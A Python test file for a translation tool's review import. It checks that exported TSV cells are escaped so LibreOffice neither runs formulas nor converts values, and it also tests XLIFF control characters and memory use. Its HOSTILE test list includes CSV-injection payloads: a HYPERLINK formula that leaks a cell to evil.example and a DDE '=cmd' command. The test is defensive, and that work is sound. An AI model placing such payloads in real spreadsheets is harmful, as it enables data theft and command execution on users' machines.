"""Review files coming back: spreadsheet-saved TSVs, formula-safe cells, XLIFF <cp>, memory.

LibreOffice tests use the real ``soffice`` (Debian ``libreoffice-calc-nogui``)
and skip, saying so, where it is absent.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from translate_cli.batching import sentence_key
from translate_cli.document import AlignedPair, Document, Result, RunMeta
from translate_cli.memory import TranslationMemory
from translate_cli.review import import_reviewed, read_tsv_rows
from translate_cli.writers import get_writer
from translate_cli.writers.text import TSV_COLUMNS, tsv_escape, tsv_unescape

META = RunMeta("0.1.0", "model-x", "rev-1", "fake", 4, "2026-11-24T20:15:00Z")
SOFFICE = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)
# Tab-separated, quote as text delimiter, UTF-8 (76), from line 1.
CALC_TSV = "Text - txt - csv (StarCalc):9,34,76,1"

# Sources a spreadsheet would not keep as text if written bare.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    " =1+1",
    "= 3 milliards",
    "-20 % en un an",
    '"Oui"',
    '"Oui" et "non"',
    '""',
    "007",
    "1e5",
    "3.10",
]
ORDINARY = [
    "Le maire est venu.",
    'Il a dit "non" deux fois.',
    "Tab\there, line\nbreak, back\\slash.",
    "« Guillemets » et 1er\u00a0mars.",
]


def lookup(memory: TranslationMemory, sources: list[str]) -> dict:
    keys = {sentence_key(s): s for s in sources}
    return {keys[k]: entry for k, entry in memory.lookup(list(keys), "any").items()}


def result_of(sources: list[str], name: str = "doc.fr.txt") -> Result:
    pairs = tuple(
        AlignedPair(i, 0, s, s.upper(), ("untranslated",), -0.5) for i, s in enumerate(sources)
    )
    return Result(Document(name, ("",) * len(sources), "\n\n", "utf-8", "abc"), pairs, META)


def write_tsv(path: Path, result: Result) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        get_writer("tsv").write([result], fh)
    return path


def plain_rows(path: Path) -> list[list[str]]:
    return [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines()]


def soffice(tmp_path: Path, source: Path, target: str, *, infilter: str = CALC_TSV) -> Path:
    """Open ``source`` in LibreOffice Calc as a reviewer would and save it as ``target``."""
    out = tmp_path / f"lo-{target.split(':')[0]}"
    subprocess.run(
        [
            SOFFICE or "soffice",
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--headless",
            f"--infilter={infilter}",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    (made,) = out.iterdir()
    return made


# --- item 9: cells a spreadsheet would run or change ------------------------


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("=1+1", "\\=1+1"),
        ("+1", "\\+1"),
        ("-20 % en un an", "\\-20 % en un an"),
        ("@SUM(A1)", "\\@SUM(A1)"),
        (" =1", "\\ =1"),
        ('"Oui"', '\\"Oui"'),
        ("2024", "\\2024"),
        ("1e5", "\\1e5"),
        ("\t=1+1", "\\t=1+1"),  # already starts with an escape
        ("\r=1+1", "\\r=1+1"),
        ("a=b", "a=b"),
        ('Il dit "oui".', 'Il dit "oui".'),
        ("1er mars", "1er mars"),
    ],
)
def test_tsv_escape_guards_cells_spreadsheets_would_change(raw, escaped):
    assert tsv_escape(raw) == escaped
    assert tsv_unescape(escaped) == raw


@needs_soffice
def test_libreoffice_runs_no_formula_from_our_tsv(tmp_path):
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(HOSTILE + ORDINARY))
    ods = soffice(tmp_path, tsv, "ods")
    content = zipfile.ZipFile(ods).read("content.xml").decode("utf-8")
    assert "table:formula" not in content
    # Every cell comes back as the text it was: sources and targets exactly.
    back = soffice(tmp_path, tsv, f"tsv:{CALC_TSV}")
    rows = list(read_tsv_rows(back))
    assert [r.source for r in rows] == HOSTILE + ORDINARY
    assert [r.target for r in rows] == [s.upper() for s in HOSTILE + ORDINARY]


@needs_soffice
def test_libreoffice_would_run_a_bare_formula(tmp_path):
    """The harness can fail: an unguarded ``=1+1`` does come back as ``2``."""
    bare = tmp_path / "bare.tsv"
    bare.write_text("a\tb\n=1+1\tx\n", encoding="utf-8")
    back = soffice(tmp_path, bare, f"tsv:{CALC_TSV}")
    assert back.read_text(encoding="utf-8").splitlines()[1].split("\t")[0] == "2"


# --- F9: cells a spreadsheet reads as values --------------------------------

# Numbers, percentages, currencies, dates, times, fractions and booleans, as
# LibreOffice (en-US here) and, for 3,5 / 5 € / 1 000, a French locale read them.
VALUES = [
    "(1)",
    "true",
    "FALSE",
    "vrai",
    "$5",
    "5 $",
    "1/2",
    "1/2/3",
    "12:30",
    "1:2",
    "12:30 PM",
    "3,5",
    "50 %",
    "1e5",
    "12-03",
    "2024-03-12",
    "€5",
    "5 €",
    "1 000",
    "1,000.5",
    "5-",
    "Mar 12",
    "March 2024",
    "12 mars",
    "-5",
    ".5",
    "1 1/2",
]


@pytest.mark.parametrize("cell", VALUES)
def test_value_cells_are_guarded(cell):
    assert tsv_escape(cell) == "\\" + cell
    assert tsv_unescape(tsv_escape(cell)) == cell


@pytest.mark.parametrize("cell", ["1er mars", "12h30", "Jan", "100 000 habitants", "true love"])
def test_text_with_numbers_is_not_guarded(cell):
    assert tsv_escape(cell) == cell


def old_tsv(path: Path, pairs: list[tuple[str, str]]) -> Path:
    """A TSV as written before values were guarded: these cells bare."""
    result = Result(
        Document("doc.fr.txt", ("",) * len(pairs), "\n\n", "utf-8", "abc"),
        tuple(AlignedPair(i, 0, s, t, (), -0.5) for i, (s, t) in enumerate(pairs)),
        META,
    )
    write_tsv(path, result)
    rows = plain_rows(path)
    for row in rows[1:]:
        for column in ("source", "target"):
            at = TSV_COLUMNS.index(column)
            if row[at].startswith("\\") and not row[at].startswith("\\\\"):
                row[at] = row[at][1:]
    path.write_text("\n".join("\t".join(r) for r in rows) + "\n", encoding="utf-8")
    return path


@needs_soffice
def test_libreoffice_keeps_value_cells_and_import_names_conversions(tmp_path):
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(VALUES))
    back = soffice(tmp_path, tsv, f"tsv:{CALC_TSV}")
    rows = list(read_tsv_rows(back))
    assert [r.source for r in rows] == VALUES  # each comes back exactly
    assert [r.target for r in rows] == [s.upper() for s in VALUES]
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(back, memory)
    assert (report.imported, report.unchanged, report.rejected) == (0, len(VALUES), [])
    # The same cells bare, as the old writer left them: converted by Calc,
    # rejected with the cause, and a converted target never imported.
    (tmp_path / "old").mkdir()
    old = old_tsv(tmp_path / "old/old.tsv", [("(1)", "x"), ("Un.", "1/2"), ("Deux.", "true")])
    back = soffice(tmp_path / "old", old, f"tsv:{CALC_TSV}")
    cells = [line.split("\t") for line in back.read_text(encoding="utf-8").splitlines()]
    assert [c[3] for c in cells[1:]] == ["-1", '"Un."', '"Deux."']
    assert cells[2][4].startswith("01/02/") and cells[3][4] == "TRUE"  # 1/2 is this year's
    with TranslationMemory(tmp_path / "tm2.sqlite") as memory:
        report = import_reviewed(back, memory)
    assert report.imported == 0
    assert len(report.rejected) == 3
    assert all("a spreadsheet changed this cell" in r for r in report.rejected)
    assert ": source;" in report.rejected[0] and ": target;" in report.rejected[1]


@needs_soffice
def test_libreoffice_french_locale_keeps_value_cells(tmp_path):
    """In a French locale 3,5 / 1 000 / 12/03 / 12 mars / vrai are values too."""
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(VALUES))
    back = soffice(tmp_path, tsv, f"tsv:{CALC_TSV}", infilter=f"{CALC_TSV},,1036")
    assert [r.source for r in read_tsv_rows(back)] == VALUES
    bare = tmp_path / "bare" / "bare.tsv"
    bare.parent.mkdir()
    bare.write_text("a\n3,5\n1 000\n12/03\n12 mars\nvrai\n", encoding="utf-8")
    cells = soffice(bare.parent, bare, f"tsv:{CALC_TSV}", infilter=f"{CALC_TSV},,1036")
    converted = cells.read_text(encoding="utf-8").splitlines()[1:]
    # The harness can fail: bare, each comes back converted (dates carry this year).
    assert converted[:2] + converted[4:] == ["3.5", "1000", "TRUE"]
    assert converted[2] == converted[3] != "12/03"


def test_edited_bare_value_target_is_not_imported(tmp_path):
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(["Un.", "Deux.", "Trois."]))
    rows = review(tsv, {1: "01/02/26", 2: "\\2024", 3: "Three."})
    saved = tmp_path / "saved.tsv"
    saved.write_text("\n".join("\t".join(r) for r in rows) + "\n", encoding="utf-8")
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
        found = lookup(memory, ["Deux.", "Trois."])
    assert report.imported == 2  # a guarded value typed by the reviewer is text
    assert {e.target for e in found.values()} == {"2024", "Three."}
    (rejected,) = report.rejected
    assert ":2: a spreadsheet changed this cell (number/date detection): target;" in rejected


# --- item 8: a TSV saved by a spreadsheet -----------------------------------


def review(path: Path, edits: dict[int, str]) -> list[list[str]]:
    """Our TSV's rows, unescaped as a spreadsheet shows them, with targets edited."""
    rows = plain_rows(path)
    target = TSV_COLUMNS.index("target")
    for number, text in edits.items():
        rows[number][target] = text
    return rows


EDITS = {1: 'He said "yes"\tand\nleft.', 3: '"Quoted" target', 5: "=not a formula here"}


@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_ALL])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_csv_quoted_tsv_imports(tmp_path, quoting, encoding):
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(HOSTILE + ORDINARY))
    saved = tmp_path / "saved.tsv"
    with saved.open("w", encoding=encoding, newline="") as fh:  # CRLF, as csv writes
        csv.writer(fh, delimiter="\t", quoting=quoting).writerows(review(tsv, EDITS))
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
        assert report.rejected == []
        assert (report.imported, report.unchanged) == (3, len(HOSTILE + ORDINARY) - 3)
        sources = HOSTILE + ORDINARY
        found = lookup(memory, [sources[0], sources[2], sources[4]])
        # Cells are our escaped text, so "\t" typed as a real tab stays a tab.
        assert found[sources[0]].target == 'He said "yes"\tand\nleft.'
        assert found[sources[2]].target == '"Quoted" target'
        assert found[sources[4]].target == "=not a formula here"
        assert {e.origin for e in found.values()} == {"reviewed"}


@needs_soffice
def test_libreoffice_saved_tsv_imports(tmp_path):
    seed = (Path(__file__).parent.parent / "samples" / "deconfliction.fr.txt").read_text()
    sentences = [s for s in seed.replace("\n", " ").split(". ") if s.strip()]
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(sentences + HOSTILE))
    edited = tmp_path / "edited.tsv"
    edited.write_text(
        "\n".join("\t".join(r) for r in review(tsv, {2: 'Reviewed "line" two'})) + "\n",
        encoding="utf-8",
    )
    back = soffice(tmp_path, edited, f"tsv:{CALC_TSV}")
    assert '"' in back.read_text(encoding="utf-8")  # Calc did quote
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(back, memory)
    assert report.rejected == []
    assert (report.imported, report.unchanged) == (1, len(sentences + HOSTILE) - 1)


def test_rejections_name_their_cause(tmp_path):
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of([*ORDINARY, "Cinq.", "Six."]))
    rows = review(tsv, {n: f"Reviewed {n}." for n in range(1, 7)})
    src = TSV_COLUMNS.index("source")
    rows[2][src] = "Une source modifiée."  # edited source
    rows[5][src], rows[6][src] = rows[6][src], rows[5][src]  # cells moved between rows
    rows[1], rows[4] = rows[4], rows[1]  # whole rows sorted: still fine
    lines = ["\t".join(f'"{c}"' for c in row) for row in rows]  # quoted, as Calc writes
    lines[3] = lines[3].replace('"\t"', "\t", 1)  # a broken quote joins two cells
    saved = tmp_path / "saved.tsv"
    saved.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(saved, memory)
    assert report.imported == 2
    causes = {int(r.split(":")[1]): r.split(":", 2)[2] for r in report.rejected}
    assert sorted(causes) == [3, 4, 6, 7]
    assert "changed since export" in causes[3]
    assert causes[4].startswith(" quoting problem")
    assert "moved row" in causes[6] and "line 7" in causes[6]
    assert "moved row" in causes[7] and "line 6" in causes[7]


def test_old_tsv_with_bare_leading_quotes_still_imports(tmp_path):
    """Files written before the guard hold bare leading quotes; they read as written."""
    tsv = write_tsv(tmp_path / "doc.fr-en.tsv", result_of(['"Oui", dit-il.', '"Non"']))
    rows = review(tsv, {1: "Reviewed."})
    src = TSV_COLUMNS.index("source")
    for row in rows[1:]:
        row[src] = tsv_unescape(row[src])  # as the old writer wrote them
    old = tmp_path / "old.tsv"
    old.write_text("\n".join("\t".join(r) for r in rows) + "\n", encoding="utf-8")
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(old, memory)
    assert (report.imported, report.unchanged, report.rejected) == (1, 1, [])


# --- item 10: XLIFF with control characters ---------------------------------


def test_xliff_control_characters_round_trip_through_import(tmp_path):
    from lxml import etree

    sources = ["Bip\x01 tab\x0b esc\x1b fin\ufffe.", "Nul\x00 et ff\x0c.", "Normal."]
    xlf = tmp_path / "doc.fr-en.xlf"
    with xlf.open("w", encoding="utf-8") as fh:
        get_writer("xliff").write([result_of(sources)], fh)
    text = xlf.read_text(encoding="utf-8")
    assert '<cp hex="0001"/>' in text and '<cp hex="FFFE"/>' in text and "\ufffd" not in text
    tree = etree.parse(str(xlf))
    ns = {"x": "urn:oasis:names:tc:xliff:document:2.0"}
    for number, segment in enumerate(tree.findall(".//x:segment", ns)[:2]):
        segment.find("x:target", ns).text = f"Reviewed {number}."
        for child in list(segment.find("x:target", ns)):
            segment.find("x:target", ns).remove(child)
    tree.write(str(xlf), encoding="utf-8", xml_declaration=True)
    with TranslationMemory(tmp_path / "tm.sqlite") as memory:
        report = import_reviewed(xlf, memory)
        assert (report.imported, report.unchanged, report.rejected) == (2, 1, [])
        found = lookup(memory, sources[:2])
        assert [found[s].target for s in sources[:2]] == ["Reviewed 0.", "Reviewed 1."]


# --- item 17: XLIFF writer memory follows one paragraph ---------------------


class _Discard(io.StringIO):
    def write(self, chunk: str) -> int:
        return len(chunk)


def xliff_peak(paragraphs: int, sentences: int) -> tuple[int, int]:
    """Peak traced memory while writing, and the largest paragraph's source size."""
    text = "Phrase française numéro %08d " + "x" * 62 + "."
    pairs = tuple(
        AlignedPair(p, i, text % i, text % i, (), -0.5)
        for p in range(paragraphs)
        for i in range(sentences)
    )
    result = Result(Document("d.txt", ("",) * paragraphs, "\n\n", "utf-8", "abc"), pairs, META)
    out = _Discard()  # measure the writer alone, not what it wrote
    tracemalloc.start()
    try:
        get_writer("xliff").write([result], out)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return peak, len(text % 0) * sentences


@pytest.mark.parametrize("sentences", [10_000, 40_000])  # 1 MB and 4 MB paragraphs
def test_xliff_writer_memory_follows_one_paragraph(sentences):
    peak, size = xliff_peak(1, sentences)
    assert peak < 2 * size, (peak, size)  # was 14x traced (and 900 MB RSS for 20 MB)


def test_xliff_writer_memory_does_not_grow_with_paragraphs():
    # 200 and 3,200 paragraphs of 5 kB (1 MB and 16 MB documents): the peak
    # stays a few times one paragraph (measured 4-10 kB for both; before, the
    # sorted copy of the pairs alone grew with the document).
    for paragraphs in (200, 3_200):
        peak, size = xliff_peak(paragraphs, 50)
        assert peak < 4 * size, (paragraphs, peak, size)
